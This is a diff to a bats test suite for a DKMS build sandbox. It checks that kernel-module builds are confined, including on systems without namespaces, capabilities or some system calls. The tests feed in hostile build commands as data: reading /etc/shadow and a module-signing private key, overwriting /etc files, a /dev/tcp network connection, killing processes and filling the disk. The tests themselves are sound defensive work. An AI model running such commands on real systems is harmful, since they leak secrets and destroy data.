@@ -4,6 +4,7 @@ load ../lib/dkms
 bats_require_minimum_version 1.5.0
 
 setup() {
+	only_ours
 	world_up
 	echo keep >/etc/keep
 	mkdir /etc/dkms/key
@@ -50,15 +51,17 @@ trying() {
 
 @test "a build that tries everything it must not" {
 	mode strict
+	sleep 60 3>&- &
+	victim=$!
 	trying evil 'echo gone >/etc/keep; rm -f /etc/keep; cat /etc/shadow; cat /etc/dkms/key/mok.priv
-		echo >/dev/tcp/192.0.2.1/80; kill -9 1 $(seq 500 40000) 2>/dev/null
+		echo >/dev/tcp/192.0.2.1/80; kill -9 '"$victim"' 2>/dev/null
 		setsid sleep 1000 </dev/null >/dev/null 2>&1 &
 		true'
 	sed -i 's/sh \.\/try/bash .\/try/' /usr/src/evil-1.0/dkms.conf
 	run_dkms build evil/1.0 -k "$K1"
 	assert_status 0
 	assert_same "$(</etc/keep)" keep
-	refute_exists "/etc/gone"
+	kill "$victim"
 	assert_errors_have "writing '/etc/keep'"
 	assert_errors_have "left processes running, which were ended: sleep"
 	assert_errors_have 'BUILD_SANDBOX="off"'
@@ -70,11 +73,13 @@ trying() {
 
 @test "each that a build fails of is named" {
 	mode strict
+	sleep 60 3>&- &
+	victim=$!
 	for try in "cat /etc/shadow:reading '/etc/shadow'" "echo x >/etc/keep:writing '/etc/keep'" \
 		"cat /etc/dkms/key/mok.priv:reading '/etc/dkms/key/mok.priv'" \
 		"mkdir /usr/share/xx:writing '/usr/share/xx'" \
 		"bash -c 'echo >/dev/tcp/192.0.2.1/80':using the network (192.0.2.1 port 80)" \
-		"kill 1:signalling process 1" "test -e $C/there:reading '$C/there'"; do
+		"kill $victim:signalling process $victim" "test -e $C/there:reading '$C/there'"; do
 		touch "$C/there"
 		trying one "${try%%:*}"
 		run_dkms build one/1.0 -k "$K1"
@@ -84,6 +89,7 @@ trying() {
 		assert_exists /var/lib/dkms/one/1.0/build/make.log
 		assert_same "$(find /var/lib/dkms ! -user root)" ""
 	done
+	kill "$victim"
 	assert_same "$(</etc/keep)" keep
 }
 
@@ -181,8 +187,9 @@ trying() {
 }
 
 @test "a build that fills the disk is stopped, and its directory emptied" {
+	mode strict
 	mount -t tmpfs -o size=40m tmpfs /var/lib/dkms
-	trying fat 'dd if=/dev/zero of=fat bs=64k status=none'
+	trying fat 'dd if=/dev/zero of=fat bs=64k count=2000 status=none'
 	run_dkms build fat/1.0 -k "$K1"
 	assert_status 10
 	assert_errors_have "it has filled the disk"
@@ -250,4 +257,72 @@ MAKE[0]="sh ./mk $kernelver && make -C $source_tree/hello-1.0 -f mk2"'
 	done
 	run pgrep -f 'sleep 4321'
 	[ "$status" -ne 0 ]
+}
+
+# without ERRNO CALLS ARGS...: dkms on a machine where those system calls fail
+without() {
+	local err=$1 calls=$2
+	shift 2
+	run_cmd "${DKMS_TEST_ROOT%/test-root}/tests/tools/no-syscall" "$err" "$calls" "$DKMS" "$@"
+}
+
+@test "without mount namespaces: still as another user and without a network, said once" {
+	trying hello 'echo "uid $(id -u) routes $(tail -n +2 /proc/net/route | wc -l)"; ls -d '"$C"
+	without EPERM unshare:00020000 build hello/1.0 -k "$K1" -k "$K2" -j 4
+	assert_status 0
+	assert_errors_have "modules are built in less of a sandbox here: "
+	assert_errors_have "cannot make a mount namespace: Operation not permitted"
+	assert_same "$(grep -c 'less of a sandbox' <<<"$errors")" 1
+	[[ $(<"$(log_of hello)") =~ uid\ ([0-9]+)\ routes\ 0 ]]
+	[ "${BASH_REMATCH[1]}" -ge 65536 ]
+	# strict means all of it
+	mode strict
+	without EPERM unshare:00020000 build hello/1.0 -k "$K1" --force
+	[ "$status" -ne 0 ]
+	assert_errors_have "the sandbox that build_sandbox asks for cannot be made"
+}
+
+@test "without any namespace, in a tree that the build user cannot enter: as ever" {
+	trying hello 'id -u'
+	chmod 700 /var/lib
+	without EPERM unshare build hello/1.0 -k "$K1"
+	assert_status 0
+	grep -qx 0 "$(log_of hello)"
+	chmod 755 /var/lib
+	without EPERM unshare build hello/1.0 -k "$K1" --force
+	assert_status 0
+	run ! grep -qx 0 "$(log_of hello)"
+	assert_same "$(find /var/lib/dkms ! -user root)" ""
+}
+
+@test "without CAP_SYS_ADMIN, as in a container" {
+	trying hello 'id -u'
+	run_cmd setpriv --bounding-set=-sys_admin --inh-caps=-sys_admin "$DKMS" build hello/1.0 -k "$K1"
+	assert_status 0
+	assert_errors_have "modules are built in less of a sandbox here"
+	run_cmd setpriv --bounding-set=-all --inh-caps=-all "$DKMS" build hello/1.0 -k "$K1" --force
+	assert_status 0
+	assert_errors_have "modules are built"
+}
+
+@test "with an older kernel: mounts made read-only one by one" {
+	trying hello 'test ! -w /usr && id -u && touch here && ! touch /etc/there'
+	without ENOSYS mount_setattr build hello/1.0 -k "$K1"
+	assert_status 0
+	refute_errors_have "less of a sandbox"
+	assert_errors_have "/etc/there"
+	without ENOSYS mount_setattr,open_tree build hello/1.0 -k "$K1" --force
+	assert_status 0
+	assert_errors_have "less of a sandbox"
+}
+
+@test "where the kernel tells nothing of denials, or the user cannot be changed" {
+	trying hello 'id -u'
+	without ENOSYS seccomp build hello/1.0 -k "$K1"
+	assert_status 0
+	assert_no_errors
+	run ! grep -qx 0 "$(log_of hello)"
+	without EPERM setresuid build hello/1.0 -k "$K1" --force
+	assert_status 0
+	assert_errors_have "without"
 }
